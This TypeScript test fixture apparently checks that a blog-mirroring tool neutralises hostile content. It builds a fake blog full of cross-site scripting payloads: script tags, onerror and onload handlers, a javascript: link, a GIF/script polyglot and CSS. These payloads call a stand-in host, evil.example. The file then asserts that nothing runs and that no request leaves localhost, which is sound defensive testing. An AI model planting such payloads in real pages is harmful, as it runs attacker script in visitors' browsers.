/** A blog of which every page, picture and title tries to run a script, and the eyes that would see it run. */
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import type { BrowserContext, Page } from 'playwright-core'
import { pictureOf } from '../sites/writing.ts'

export const run = "(window.__ran=1,fetch('https://evil.example/ran'))"
export const polyglot = Buffer.from(`GIF89a/*<script>${run}</script><img src=x onerror="${run}">*/`, 'latin1')
export const picture = Buffer.from(pictureOf(1))
export const hashOf = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')
/** Where a WordPress mirror shows it. */
export const base = '/dgos/m/ana.example/'

export const front = `<!doctype html><html lang="en"><head><link rel="stylesheet" href="/style.css"><script>${run}</script></head>
<body onload="${run}"><h1>Garden</h1><img id="photo" src="/photo.png"><img src="/trap.gif"><a id="first" href="/first/">First</a><a id="trap" href="javascript:${run}">x</a></body></html>`

export const assets = [
  {
    url: 'https://ana.example/style.css',
    bytes: 'h1{color:rgb(1, 2, 3);background:url(https://evil.example/css)}',
    type: 'text/css',
  },
  { url: 'https://ana.example/photo.png', bytes: picture, type: 'image/png' },
  { url: 'https://ana.example/trap.gif', bytes: polyglot, type: 'image/gif' },
]
export const items = [
  {
    id: 'https://ana.example/?p=1',
    url: 'https://ana.example/first/',
    path: '/first/',
    title: `<img src=x onerror="${run}">`,
  },
]
export const first = { path: '/first/', html: '<article><h1>First</h1></article>' }

/** Requests that no page here may make, as they come. */
export async function watched(context: BrowserContext): Promise<string[]> {
  const elsewhere: string[] = []
  await context.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
    elsewhere.push(`${route.request().frame().url()} asked for ${route.request().url()}`)
    return route.abort()
  })
  return elsewhere
}

export async function harmless(page: Page, url: string): Promise<void> {
  const answer = await page.goto(url, { waitUntil: 'load' })
  assert.ok([200, 404].includes(answer!.status()) && (answer!.status() === 200 || url.includes('/blob/')), url)
  await unharmed(page, url)
}

/** Touches everything in the page and its frames: nothing ran, and no frame sees a cookie. */
export async function unharmed(page: Page, url: string): Promise<void> {
  for (const frame of page.frames()) {
    const { ran, cookie } = await frame.evaluate(() => {
      for (const element of document.querySelectorAll('*')) {
        for (const kind of ['mouseover', 'focus', 'animationstart', 'toggle', 'error', 'load', 'begin'])
          element.dispatchEvent(new Event(kind))
        if (/^javascript:/i.test((element as HTMLAnchorElement).href ?? '')) (element as HTMLElement).click()
      }
      let seen = ''
      try {
        seen = document.cookie
      } catch {
        seen = 'denied'
      }
      return { ran: (window as { __ran?: number }).__ran, cookie: seen }
    })
    assert.equal(ran, undefined, url)
    if (frame !== page.mainFrame()) assert.equal(cookie, 'denied', url)
  }
}
